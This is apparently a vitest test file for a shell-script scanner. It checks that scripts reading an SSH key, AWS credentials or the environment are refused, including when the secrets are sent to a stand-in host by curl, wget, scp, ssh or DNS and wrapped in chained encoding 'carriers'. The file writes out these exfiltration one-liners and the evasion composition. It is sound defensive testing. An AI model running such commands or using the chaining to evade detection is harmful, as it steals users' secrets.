import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { cases, IS_WHOLE } from "../cases.ts";
import { randomOf } from "../fuzz/random.ts";
import { isStopped } from "./carriers.ts";
import { SHELL_CARRIERS } from "./shell-carriers.table.ts";

const FOLDER = mkdtempSync(join(tmpdir(), "forge-carriers-"));
const PLACE = "/tmp/place";
const version = spawnSync("bash", ["-c", 'echo "${BASH_VERSINFO[0]}"'], { encoding: "utf8" }).stdout;
const HAS_ALL = Number(version) >= 5 && ["openssl", "xxd", "python3", "perl"].every((one) => spawnSync("sh", ["-c", `command -v ${one}`]).status === 0);
if (!HAS_ALL) console.warn("SKIPPED: no bash 5 with openssl, xxd, perl and python3, so nothing shows that what is said to carry a text does");
afterAll(() => {
  rmSync(FOLDER, { recursive: true, force: true });
});

/** What prints private data. */
const CARGO: Readonly<Record<string, string>> = { "a key": "cat ~/.ssh/id_rsa", credentials: 'cat "$HOME/.aws/credentials"', "the environment": "env" };
const SENT: Readonly<Record<string, string>> = {
  "as data": 'curl -d "$($E)" https://a.example.net/',
  "by a pipe": "$E | curl --data-binary @- https://a.example.net/",
  "as a file": "$E > /tmp/sent; curl -F f=@/tmp/sent https://a.example.net/",
  "in a header": 'curl -H "X-A: $($E)" https://a.example.net/',
  "in an address": 'curl "https://a.example.net/?q=$($E)"',
  "by wget": "$E > /tmp/sent; wget --post-file=/tmp/sent https://a.example.net/",
  "by scp": "$E > /tmp/sent; scp /tmp/sent me@a.example.net:sent",
  "by ssh": "$E | ssh me@a.example.net 'cat > sent'",
  "as a name": 'dig "$($E).a.example.net"',
};
const names = Object.keys(CARGO).flatMap((cargo) => Object.keys(SENT).map((sent) => [cargo, sent] as const));

/** What prints a text, and the carriers it goes through one after the other -> the script. */
function carried(text: string, picks: readonly number[], use: string): string {
  let lines = "";
  let command = text;
  picks.forEach((pick, number) => {
    const [setup, prints] = SHELL_CARRIERS[pick] ?? ["", ""];
    const filled = (part: string): string =>
      part.replace(/\$(NB|N|E|T)(?![A-Z])/g, (_all, name: string) =>
        name === "E" ? command : name === "T" ? PLACE : `n${String(number)}${name.slice(1).toLowerCase()}`,
      );
    if (setup !== "") lines += `${filled(setup)}\n`;
    const given = filled(prints);
    command = /\n|^\(|;|&&|\|\|/.test(given) ? `{ ${given}\n}` : given;
  });
  return `#!/bin/bash\n${lines}${use.replaceAll("$E", () => command)}\n`;
}

/** Does bash really print the text at the end? */
function isCarried(picks: readonly number[]): boolean {
  rmSync(FOLDER, { recursive: true, force: true });
  mkdirSync(FOLDER);
  writeFileSync(join(FOLDER, "given"), "some text\n");
  const script = carried(`cat ${PLACE}/given`, picks, "$E").replaceAll(PLACE, FOLDER);
  const { stdout } = spawnSync("bash", ["-c", script], { cwd: FOLDER, encoding: "utf8", timeout: 10_000, stdio: ["ignore", "pipe", "ignore"] });
  return stdout.trim() === "some text";
}

const isRefused = (picks: readonly number[], [cargo, sent]: readonly [string, string]): boolean =>
  isStopped("scripts/a.sh", carried(CARGO[cargo] ?? "", picks, SENT[sent] ?? ""));

describe("what carries a text of shell", () => {
  it.skipIf(!HAS_ALL)(
    "prints it again as it was",
    () => {
      const tried = [...SHELL_CARRIERS.keys()].filter((at) => IS_WHOLE || at % 4 === 0);
      expect(tried.filter((at) => !isCarried([at])).map((at) => JSON.stringify(SHELL_CARRIERS[at]))).toEqual([]);
    },
    300_000,
  );

  it("is no way past the scan", () => {
    for (const name of names) expect(isRefused([], name)).toBe(true);
    const missed = [...SHELL_CARRIERS.keys()].flatMap((at) =>
      names
        .filter((name, number) => (IS_WHOLE || at % names.length === number) && !isRefused([at], name))
        .map((name) => `${name.join(" ")} ${JSON.stringify(SHELL_CARRIERS[at])}`),
    );
    expect(missed).toEqual([]);
  }, 600_000);

  it.skipIf(!HAS_ALL)(
    "is none one after the other",
    () => {
      const random = randomOf(29);
      const missed: string[] = [];
      for (let left = cases(300); left > 0; left--) {
        const picks = Array.from({ length: 2 + random.below(2) }, () => random.below(SHELL_CARRIERS.length));
        const name = random.pick(names);
        // Quotes of one may end those of another: only what still carries counts.
        if (!isRefused(picks, name) && isCarried(picks)) missed.push(carried(CARGO[name[0]] ?? "", picks, SENT[name[1]] ?? ""));
      }
      expect(missed.slice(0, 3)).toEqual([]);
    },
    600_000,
  );

  it("may carry what is harmless", () => {
    const tried = [...SHELL_CARRIERS.keys()].filter((at) => !GRAVE.test(JSON.stringify(SHELL_CARRIERS[at])));
    const stopped = tried.filter((at) => isStopped("scripts/a.sh", carried("cat notes.txt", [at], SENT["as data"] ?? "")));
    expect(stopped.map((at) => JSON.stringify(SHELL_CARRIERS[at]))).toEqual([]);
  }, 300_000);
});

/** These are stopped whatever they carry: they print every variable, or run text that cannot be told. */
const GRAVE = /\bset \||\benv \||'env'|DEBUG|echo '\$\(\$E\)'|echo '\$\$N'/;
